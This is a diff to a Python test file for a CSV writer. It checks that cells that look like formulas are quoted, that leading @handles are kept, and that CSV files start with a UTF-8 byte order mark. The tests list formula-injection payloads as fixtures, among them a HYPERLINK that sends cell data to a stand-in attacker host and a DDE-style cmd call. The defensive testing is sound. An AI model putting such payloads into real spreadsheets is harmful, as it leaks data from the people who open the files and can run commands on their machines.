@@ -13,7 +13,7 @@ import numpy as np
 import pyarrow.parquet as pq
 import pytest
 
-from mmfuse.io.writers import atomic_write, write_csv, write_json, write_parquet
+from mmfuse.io.writers import atomic_write, read_table, write_csv, write_json, write_parquet
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -38,6 +38,32 @@ def test_csv_cells_that_would_run_as_formulas_open_as_text():
     assert cells == ["'" + t for t in DANGEROUS]
 
 
+def test_a_post_that_starts_with_a_handle_keeps_it():
+    """Issue 24 #5: "@SkyJetHelp ..." was written "'@SkyJetHelp ...". A handle at the start
+    of a cell stays as written unless the cell also calls a function or a link ("(" or "|")."""
+    kept = ["@SkyJetHelp", "@SkyJetHelp my bag is lost!", "@a_b1 thanks, 10/10 = great"]
+    quoted = ["@SkyJetHelp (HYPERLINK)", "@x cmd|' /C calc'!A0", "@SUM(A1)", "@ spaced", "@"]
+    rows = [{"id": str(i), "text": t} for i, t in enumerate(kept + quoted)]
+    stream = io.StringIO(newline="")
+    write_csv(rows, ["id", "text"], stream)
+    cells = [row[1] for row in _read_csv(stream.getvalue())[1:]]
+    assert cells == kept + ["'" + t for t in quoted]
+
+
+def test_csv_files_start_with_a_byte_order_mark_and_read_back(tmp_path):
+    """Issue 24 #5: Excel read the UTF-8 tables as Windows-1252 ("cafÃ©") without a BOM."""
+    path = tmp_path / "results.csv"
+    with atomic_write(path) as stream:
+        write_csv([{"id": "007", "text": "café 🙄", "score": 0.5}], ["id", "text", "score"], stream)
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,text,score")
+    rows, columns = read_table(tmp_path / "none.parquet", path)
+    assert columns == ["id", "text", "score"]
+    assert rows == [{"id": "007", "text": "café 🙄", "score": 0.5}]
+    with atomic_write(tmp_path / "manifest.json") as stream:  # other text files: plain UTF-8
+        stream.write("{}")
+    assert (tmp_path / "manifest.json").read_bytes() == b"{}"
+
+
 def test_csv_leaves_numbers_and_plain_text_alone():
     rows = [{"id": "a", "score": -0.25, "count": 3, "ok": True, "text": "fine = good"}]
     stream = io.StringIO(newline="")
@@ -53,7 +79,7 @@ def test_csv_is_utf8_skips_arrays_and_fills_missing_cells(tmp_path):
     path = tmp_path / "results.csv"
     with atomic_write(path) as stream:
         assert write_csv(rows, ["id", "score", "embedding", "error"], stream) == 2
-    text = path.read_bytes().decode("utf-8")
+    text = path.read_bytes().decode("utf-8-sig")
     assert _read_csv(text) == [
         ["id", "score", "embedding", "error"],
         ["café 日本", "", "", ""],
